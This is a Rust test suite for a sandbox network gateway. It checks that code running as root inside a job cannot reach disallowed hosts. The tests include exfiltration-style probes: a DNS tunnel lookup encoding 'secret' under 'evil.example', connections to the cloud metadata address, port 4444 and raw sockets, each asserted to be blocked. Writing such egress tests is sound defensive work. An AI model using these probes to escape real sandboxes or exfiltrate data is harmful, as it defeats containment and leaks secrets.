//! What must not get out, tried from inside with the privileges of root.
//!
//! Not in here: seccomp and the rest of the sandbox, which close more.

use super::*;

#[tokio::test(flavor = "multi_thread")]
async fn nothing_but_allowed_names_and_ports_gets_out() {
    let Some(inside) = Inside::new() else { return };
    let server = echo_server("a").await;
    let resolve = resolver(&[("files.example", server), ("evil.example", server)]);
    let rules = policy(&["files.example"], EgressMode::Enforce, true);
    let gateway = gateway(&inside, rules, Vec::new(), resolve).await;
    let out = inside
        .python(&format!(
            r"
print('other name', attempt(lambda: talk('evil.example', 443)))
print('tunnel', attempt(lambda: socket.gethostbyname('c2VjcmV0.evil.example')))
print('other port', attempt(lambda: talk('files.example', 22)))
print('raw ip', attempt(lambda: talk('93.184.215.14', 443)))
print('raw ip, closed port', attempt(lambda: talk('93.184.215.14', 4444)))
print('metadata', attempt(lambda: talk('169.254.169.254', 80)))
print('private', attempt(lambda: talk('10.0.0.1', 80)))
print('host loopback', attempt(lambda: talk('127.0.0.1', {port})))
print('own loopback', attempt(lambda: talk('127.0.0.1', 443)))
print('unnamed address', attempt(lambda: talk('127.64.9.9', 443)))
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.connect((host, port)); s.send(b'x'); return s.recv(10)
print('udp', attempt(lambda: udp('1.1.1.1', 53)))
print('quic', attempt(lambda: udp('127.64.0.1', 443)))
print('ipv6', attempt(lambda: socket.create_connection(('2606:4700::1111', 443), 5)))
def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return s.sendto(struct.pack('>BBHHH', 8, 0, 0xf7ff, 0, 0), ('1.1.1.1', 0))
print('icmp', attempt(icmp))
def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    return [name for _, name in socket.if_nameindex()]
print('devices', attempt(packet))
",
            port = server.port()
        ))
        .await;
    assert_eq!(
        out,
        "other name gaierror\ntunnel gaierror\nother port ConnectionRefusedError\n\
         raw ip ConnectionResetError\nraw ip, closed port ConnectionRefusedError\n\
         metadata ConnectionResetError\nprivate ConnectionResetError\n\
         host loopback ConnectionRefusedError\nown loopback ConnectionResetError\n\
         unnamed address ConnectionResetError\nudp OSError\nquic ConnectionRefusedError\n\
         ipv6 OSError\nicmp OSError\ndevices ['lo']\n"
    );
    assert_eq!(
        denied(&gateway),
        [
            "10.0.0.1 80 not allowed 1",
            "127.64.9.9 443 not allowed 1",
            "169.254.169.254 80 not allowed 1",
            "93.184.215.14 443 not allowed 1",
            "93.184.215.14 4444 not allowed 1",
            "c2vjcmv0.evil.example 0 not allowed 1",
            "evil.example 0 not allowed 1",
            "files.example 22 not allowed 1",
        ]
    );
    assert_eq!(gateway.traffic(), (0, 0));
    assert_eq!(gateway.destinations(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn abstract_sockets_of_the_host_are_out_of_reach() {
    use std::os::linux::net::SocketAddrExt;
    let Some(inside) = Inside::new() else { return };
    let name = format!("gantry-egress-test-{}", std::process::id());
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
    let _listener = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
    assert!(std::os::unix::net::UnixStream::connect_addr(&address).is_ok());
    let script = format!(
        "s = socket.socket(socket.AF_UNIX)\nprint(attempt(lambda: s.connect('\\0{name}')))"
    );
    assert_eq!(inside.python(&script).await, "ConnectionRefusedError\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_resolves_to_a_private_address_is_refused() {
    let Some(inside) = Inside::new() else { return };
    let server = echo_server("a").await;
    let resolve = resolver(&[
        ("loop.example", server),
        ("meta.example", "169.254.169.254:80".parse().unwrap()),
        ("mapped.example", "[::ffff:127.0.0.1]:80".parse().unwrap()),
    ]);
    for mode in [EgressMode::Enforce, EgressMode::Learn] {
        let rules = policy(&["*.example", "127.0.0.1:80", "10.0.0.1:80"], mode, false);
        let gateway = gateway(&inside, rules, Vec::new(), Arc::clone(&resolve)).await;
        let out = inside
            .python("for h in ('loop.example', 'meta.example', 'mapped.example', '10.0.0.1'): say(h, 80)")
            .await;
        for line in out.lines() {
            assert!(line.ends_with("ConnectionResetError"), "{line}");
        }
        assert_eq!(
            denied(&gateway),
            [
                "10.0.0.1 80 private address 1",
                "loop.example 80 private address 1",
                "mapped.example 80 private address 1",
                "meta.example 80 private address 1",
            ]
        );
        gateway.close().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn without_rules_no_port_of_the_job_is_taken() {
    let Some(inside) = Inside::new() else { return };
    let gateway =
        gateway(&inside, policy(&[], EgressMode::Enforce, false), Vec::new(), resolver(&[])).await;
    let out = inside
        .python(
            "s = socket.create_server(('0.0.0.0', 443)); c = socket.create_connection(('localhost', 443), 5)\n\
             s.accept()[0].sendall(b'mine'); print(c.recv(9))\nsay('1.1.1.1', 80)",
        )
        .await;
    assert_eq!(out, "b'mine'\n1.1.1.1 80 ConnectionRefusedError\n");
    assert_eq!(denied(&gateway), ["1.1.1.1 80 not allowed 1"], "seen although nobody listens");
}

#[tokio::test(flavor = "multi_thread")]
async fn connections_beyond_the_limit_wait_their_turn() {
    let Some(inside) = Inside::new() else { return };
    let server = echo_server("a").await;
    let limits = GatewayLimits { max_connections: 2, max_names: 1, ..GatewayLimits::default() };
    let resolve = resolver(&[("a.example", server)]);
    let rules = policy(&["*.example"], EgressMode::Enforce, true);
    let gateway =
        attach_with(inside.netns(), rules, Vec::new(), Vec::new(), limits, resolve).await.unwrap();
    let out = inside
        .python(
            r"
def rest(s): return b''.join(iter(lambda: s.recv(99), b''))
held = [socket.create_connection(('a.example', 80), 5) for _ in range(2)]
late = socket.create_connection(('a.example', 80), 5)
late.sendall(b'late'); late.shutdown(socket.SHUT_WR)
for s in held: s.sendall(b'x'); s.shutdown(socket.SHUT_WR); print(rest(s))
print(rest(late), attempt(lambda: socket.gethostbyname('b.example')))
",
        )
        .await;
    assert_eq!(out, "b'a:x'\nb'a:x'\nb'a:late' gaierror\n");
    assert_eq!(gateway.denials(), []);
}
